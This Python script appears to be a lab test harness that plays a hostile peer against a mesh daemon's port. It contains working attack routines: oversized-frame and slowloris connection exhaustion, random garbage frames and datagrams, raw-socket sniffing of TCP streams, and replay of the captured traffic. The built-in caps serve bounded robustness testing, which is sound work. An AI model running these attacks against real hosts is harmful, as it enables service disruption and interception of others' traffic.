#!/usr/bin/env python3
"""A keyless peer on the lab's LAN attacking a meshd's mesh port (issue 11).

Every attack is bounded in connections, bytes and time, and goes only to the
address it is given (a lab host). Each prints one JSON object of what it saw.

  prefix TARGET      connections that each announce a large frame, then idle
  slowloris TARGET   idle connections held open and reopened as they close
  garbage TARGET     frames of random bytes; empty, oversized and random datagrams
  sniff              capture the payload of TCP streams to a port (AF_PACKET)
  replay TARGET      send captured streams again, each on a new connection

  hostile_peer.py prefix 10.213.0.2:7946 --conns 256 --length 4194304 --hold 5
  hostile_peer.py slowloris 10.213.0.2:7946 --conns 500 --seconds 30
  hostile_peer.py sniff --iface p2 --dst 10.213.0.2:7946 --seconds 6 --out cap.json
  hostile_peer.py replay 10.213.0.3:7946 --captured cap.json

Python 3 standard library only.
"""
import argparse
import json
import os
import select
import signal
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003

# SIGTERM ends a running attack early; it still prints what it saw.
stopping = False


def on_sigterm(signum, frame):
    global stopping
    stopping = True


def hostport(text):
    host, sep, port = text.rpartition(":")
    if not sep or not port.isdigit():
        raise argparse.ArgumentTypeError(f"expected IP:PORT, got {text!r}")
    return host, int(port)


def connect(target, timeout=2.0):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(timeout)
    s.connect(target)
    s.setblocking(False)
    return s


def peer_closed(s):
    """True if the peer closed (or reset) the connection; drains what it sent."""
    try:
        data = s.recv(4096)
        return data == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


def cmd_prefix(args):
    """Announce --length bytes on each of --conns connections, send --body of
    them (default none), then hold the connections for --hold seconds."""
    header = struct.pack("<I", args.length)
    socks, refused = [], 0
    for _ in range(args.conns):
        try:
            s = connect(args.target)
            s.sendall(header)
            socks.append(s)
        except OSError:
            refused += 1
    sent_body = 0
    if args.body:
        chunk = os.urandom(min(args.body, 65536))
        for s in socks:
            left = args.body
            try:
                while left > 0:
                    n = s.send(chunk[: min(left, len(chunk))])
                    left -= n
                    sent_body += n
            except OSError:
                pass
    deadline = time.monotonic() + args.hold
    while time.monotonic() < deadline and not stopping:
        time.sleep(0.1)
    closed = sum(1 for s in socks if peer_closed(s))
    for s in socks:
        s.close()
    print(json.dumps({"attack": "prefix", "opened": len(socks), "refused": refused,
                      "closed_by_peer": closed, "body_bytes_sent": sent_body}))


def cmd_slowloris(args):
    """Keep --conns idle connections open for --seconds, reopening each one the
    target closes (at most --rate opens a second)."""
    socks, opens, failures, peer_closes = [], 0, 0, 0
    deadline = time.monotonic() + args.seconds
    budget_at, budget = time.monotonic(), args.rate
    while time.monotonic() < deadline and not stopping:
        now = time.monotonic()
        if now - budget_at >= 1.0:
            budget_at, budget = now, args.rate
        while len(socks) < args.conns and budget > 0:
            budget -= 1
            try:
                s = connect(args.target, timeout=0.5)
                if args.first_bytes:
                    s.send(b"\x00" * args.first_bytes)
                socks.append(s)
                opens += 1
            except OSError:
                failures += 1
                break
        if socks:
            readable, _, _ = select.select(socks, [], [], 0.2)
            for s in readable:
                if peer_closed(s):
                    peer_closes += 1
                    socks.remove(s)
                    s.close()
        else:
            time.sleep(0.05)
    for s in socks:
        s.close()
    print(json.dumps({"attack": "slowloris", "opens": opens, "connect_failures": failures,
                      "closed_by_peer": peer_closes}))


def cmd_garbage(args):
    """--frames frames of random bytes with an honest length; then empty,
    oversized and random datagrams, --datagrams of each."""
    answered = closed = 0
    for i in range(args.frames):
        body = os.urandom(64 + (i * 37) % 2000)
        try:
            s = connect(args.target)
            s.setblocking(True)
            s.settimeout(3.0)
            s.sendall(struct.pack("<I", len(body)) + body)
            data = s.recv(4096)
            if data:
                answered += 1
            else:
                closed += 1
            s.close()
        except OSError:
            closed += 1
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(args.datagrams):
        u.sendto(b"", args.target)
        u.sendto(os.urandom(3000), args.target)
        u.sendto(os.urandom(200), args.target)
        time.sleep(0.002)
    u.close()
    print(json.dumps({"attack": "garbage", "frames_answered": answered,
                      "frames_closed": closed, "datagrams": 3 * args.datagrams}))


def parse_tcp(frame):
    """(src ip, src port, dst ip, dst port, seq, flags, payload) of an
    Ethernet/IPv4/TCP frame, or None."""
    if len(frame) < 14 + 20 or struct.unpack("!H", frame[12:14])[0] != 0x0800:
        return None
    ip = frame[14:]
    ihl = (ip[0] & 0x0F) * 4
    if ip[9] != 6 or len(ip) < ihl + 20:
        return None
    total = struct.unpack("!H", ip[2:4])[0]
    src, dst = socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20])
    tcp = ip[ihl:total]
    sport, dport, seq = struct.unpack("!HHI", tcp[:8])
    off = (tcp[12] >> 4) * 4
    return src, sport, dst, dport, seq, tcp[13], bytes(tcp[off:])


def cmd_sniff(args):
    """Capture, on --iface, what clients send to --dst for --seconds; write the
    reassembled client-to-server bytes of each stream to --out as hex."""
    dst_ip, dst_port = args.dst
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((args.iface, 0))
    s.settimeout(0.2)
    streams = {}  # (src, sport) -> {"isn": int, "segs": {seq: bytes}}
    deadline = time.monotonic() + args.seconds
    while time.monotonic() < deadline:
        try:
            frame = s.recv(65536)
        except socket.timeout:
            continue
        t = parse_tcp(frame)
        if not t:
            continue
        src, sport, dst, dport, seq, flags, payload = t
        if dst != dst_ip or dport != dst_port:
            continue
        st = streams.setdefault((src, sport), {"isn": None, "segs": {}})
        if flags & 0x02:  # SYN
            st["isn"] = seq
        if payload:
            st["segs"].setdefault(seq, payload)
    s.close()
    out = []
    for (src, sport), st in streams.items():
        if st["isn"] is None or not st["segs"]:
            continue
        data, want = b"", (st["isn"] + 1) & 0xFFFFFFFF
        while want in st["segs"]:
            seg = st["segs"][want]
            data += seg
            want = (want + len(seg)) & 0xFFFFFFFF
        if data:
            out.append({"src": f"{src}:{sport}", "bytes": data.hex()})
    with open(args.out, "w") as f:
        json.dump(out, f)
    print(json.dumps({"attack": "sniff", "streams": len(out),
                      "sizes": [len(x["bytes"]) // 2 for x in out]}))


def cmd_replay(args):
    """Send each captured stream to TARGET on a new connection; report how
    many bytes came back before the target closed."""
    with open(args.captured) as f:
        captured = json.load(f)
    results = []
    for c in captured:
        got = 0
        try:
            s = connect(args.target)
            s.setblocking(True)
            s.settimeout(3.0)
            s.sendall(bytes.fromhex(c["bytes"]))
            while True:
                data = s.recv(65536)
                if not data:
                    break
                got += len(data)
            s.close()
        except OSError:
            pass
        results.append(got)
    print(json.dumps({"attack": "replay", "streams": len(captured), "answer_bytes": results}))


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    sub = ap.add_subparsers(dest="cmd", required=True)
    p = sub.add_parser("prefix")
    p.add_argument("target", type=hostport)
    p.add_argument("--conns", type=int, default=256)
    p.add_argument("--length", type=int, default=4 * 1024 * 1024)
    p.add_argument("--body", type=int, default=0)
    p.add_argument("--hold", type=float, default=5.0)
    p = sub.add_parser("slowloris")
    p.add_argument("target", type=hostport)
    p.add_argument("--conns", type=int, default=500)
    p.add_argument("--seconds", type=float, default=20.0)
    p.add_argument("--rate", type=int, default=500)
    p.add_argument("--first-bytes", type=int, default=0)
    p = sub.add_parser("garbage")
    p.add_argument("target", type=hostport)
    p.add_argument("--frames", type=int, default=20)
    p.add_argument("--datagrams", type=int, default=20)
    p = sub.add_parser("sniff")
    p.add_argument("--iface", required=True)
    p.add_argument("--dst", type=hostport, required=True)
    p.add_argument("--seconds", type=float, default=6.0)
    p.add_argument("--out", required=True)
    p = sub.add_parser("replay")
    p.add_argument("target", type=hostport)
    p.add_argument("--captured", required=True)
    args = ap.parse_args()
    signal.signal(signal.SIGTERM, on_sigterm)
    for name in ("conns", "frames", "datagrams"):
        if getattr(args, name, 0) > 2000:
            sys.exit(f"hostile_peer: --{name} is capped at 2000 (bounded lab traffic)")
    for name in ("seconds", "hold"):
        if getattr(args, name, 0) > 120:
            sys.exit(f"hostile_peer: --{name} is capped at 120 s (bounded lab traffic)")
    {"prefix": cmd_prefix, "slowloris": cmd_slowloris, "garbage": cmd_garbage,
     "sniff": cmd_sniff, "replay": cmd_replay}[args.cmd](args)


if __name__ == "__main__":
    main()
